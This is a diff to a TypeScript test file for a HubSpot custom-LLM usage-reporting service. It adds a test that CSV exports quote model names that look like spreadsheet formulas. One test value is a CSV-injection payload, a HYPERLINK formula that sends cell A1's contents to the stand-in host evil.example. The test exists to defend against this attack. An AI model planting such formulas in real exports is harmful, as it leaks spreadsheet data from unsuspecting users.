@@ -1,7 +1,8 @@
 import t, { type Test } from 'tap'
 import { buildApp } from '../helpers/build-app.ts'
 import { executionBody, signedHeaders } from '../helpers/hubspot-request.ts'
-import { OPENAI_GOOD_KEY, openAIResponse, startOpenAIStub } from '../stubs/openai-stub.ts'
+import { FORMULA_START, spreadsheetCells } from '../helpers/spreadsheet-csv.ts'
+import { OPENAI_GOOD_KEY, openAIError, openAIResponse, startOpenAIStub } from '../stubs/openai-stub.ts'
 
 const PATH = '/hubspot/actions/custom-llm'
 /** gpt-4.1 (2 / 0.5 / 8) and gpt-4.1-mini (0.4 / 0.1 / 1.6) for the stub's 12 input (2 cached) and 20 output tokens. */
@@ -12,7 +13,10 @@ const GPT_41_MINI = (10 * 0.4 + 2 * 0.1 + 20 * 1.6) / 1e6
 async function reportingApp (t: Test) {
   const stub = await startOpenAIStub()
   t.teardown(() => stub.close())
-  stub.on('POST /v1/responses', stub.guarded(request => ({ body: openAIResponse('Hi', { model: request.json?.model }) })))
+  // Like OpenAI, the stub refuses a model it does not have; the workflow's model is recorded all the same.
+  stub.on('POST /v1/responses', stub.guarded(request => String(request.json?.model).startsWith('gpt-')
+    ? { body: openAIResponse('Hi', { model: request.json?.model }) }
+    : openAIError(400, 'The requested model does not exist.', 'model_not_found', 'model')))
   const time = { now: Date.parse('2026-03-10T12:00:00Z') }
   const built = await buildApp(t, { OPENAI_BASE_URL: stub.baseUrl }, { clock: () => time.now })
   for (const portal of [71, 72, 73]) {
@@ -94,4 +98,25 @@ t.test('every portal\'s spend, the biggest first, as JSON or CSV', async t => {
   const csv = await get('/api/usage', { accept: 'text/csv' })
   t.equal(csv.headers['content-type'], 'text/csv; charset=utf-8')
   t.match(csv.body, /^portalId,executions,errors,inputTokens,cachedInputTokens,outputTokens,reasoningTokens,costUsd,unpricedExecutions\r\n71,3,/)
+})
+
+t.test('CSV: a model a workflow names like a formula reaches every spreadsheet as text', async t => {
+  const { app, get } = await reportingApp(t)
+  const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=1+2', '@SUM(A1:A9)', '-2+3;=1+2']
+  for (const model of formulas) {
+    const payload = JSON.stringify(executionBody(71, { provider: 'openai', model, prompt: 'Say hi' }))
+    const response = await app.inject({ method: 'POST', url: PATH, headers: signedHeaders('POST', PATH, payload), payload })
+    t.equal(response.json().outputFields.errorCode, 'PROVIDER_REJECTED', model)
+  }
+  for (const url of ['/api/portals/71/usage?groupBy=model', '/api/portals/71/usage?groupBy=provider', '/api/portals/71/usage?groupBy=day', '/api/usage']) {
+    const csv = (await get(url, { accept: 'text/csv' })).body
+    for (const separator of [',', ';'] as const) {
+      const cells = spreadsheetCells(csv, separator).flat()
+      t.same(cells.filter(cell => FORMULA_START.test(cell)), [], `${url}, read with "${separator}": no cell starts a formula`)
+    }
+  }
+  const byModel = spreadsheetCells((await get('/api/portals/71/usage?groupBy=model', { accept: 'text/csv' })).body)
+  const quoted = byModel.map(row => row[1] ?? '').filter(model => model.startsWith("'"))
+  t.same(quoted.sort(), [...formulas.slice(0, 3).map(model => `'${model}`), "'-2+3;'=1+2"].sort(), 'each model is there, as text')
+  t.same(byModel.find(row => row[1] === "'=1+2")?.slice(2, 4), ['1', '1'], 'its counts stay numbers')
 })
